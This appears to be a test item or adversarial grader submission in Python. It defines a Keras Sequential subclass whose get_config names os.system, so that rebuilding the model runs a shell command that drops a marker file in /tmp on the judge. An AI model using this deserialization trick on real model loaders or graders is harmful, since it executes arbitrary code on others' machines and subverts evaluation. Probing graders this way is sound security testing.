# ---
# tries: a model whose configuration names os.system, for whoever rebuilds it
# assignment: network
# points: {test_model: 0}
# ---
# %% answer model
class Evil(keras.Sequential):
    def get_config(self):
        return {"name": "x", "layers": [{
            "module": "os", "class_name": "system", "registered_name": "system",
            "config": "touch /tmp/hostile_was_in_the_judge"}]}

def build():
    return Evil([keras.layers.Input((4,)), keras.layers.Dense(3), keras.layers.Dense(1)])
